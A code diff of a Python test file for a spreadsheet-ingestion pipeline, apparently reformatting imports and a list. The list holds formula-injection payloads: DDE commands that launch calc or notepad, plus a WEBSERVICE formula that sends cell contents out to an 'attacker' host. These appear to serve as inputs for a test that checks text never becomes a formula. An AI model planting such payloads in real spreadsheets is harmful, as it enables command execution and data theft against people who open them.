@@ -229,9 +229,9 @@ def test_every_refusal_is_wholly_vietnamese_then_wholly_english(corpus_dir, tmp_
     import python_calamine
 
     from pipelines.load import ingest
-    from pipelines.steward.check import check_file
     from pipelines.read.sheets import unreadable_reason
     from pipelines.read.workbook import read_workbook
+    from pipelines.steward.check import check_file
     from validations.catalogue import finding
 
     root, cases = corpus_dir
@@ -261,8 +261,8 @@ def test_every_refusal_is_wholly_vietnamese_then_wholly_english(corpus_dir, tmp_
     assert_each_half_in_its_language(failed.submissions[0].findings[0], "the reader failed")
 
 
-DANGEROUS = ["=cmd|'/c calc'!A1", "=HYPERLINK(\"http://x\",\"y\")", "+1+cmd|' /C notepad'!A0", "@SUM(1+1)*cmd|'/c calc'!A1",
-             "=1+1", "-2+3+cmd|'/c calc'!A1", "=WEBSERVICE(\"http://attacker/\"&A1)"]
+DANGEROUS = ["=cmd|'/c calc'!A1", "=HYPERLINK(\"http://x\",\"y\")", "+1+cmd|' /C notepad'!A0",
+             "@SUM(1+1)*cmd|'/c calc'!A1", "=1+1", "-2+3+cmd|'/c calc'!A1", "=WEBSERVICE(\"http://attacker/\"&A1)"]
 
 
 def test_text_from_input_never_becomes_a_formula(tmp_path):
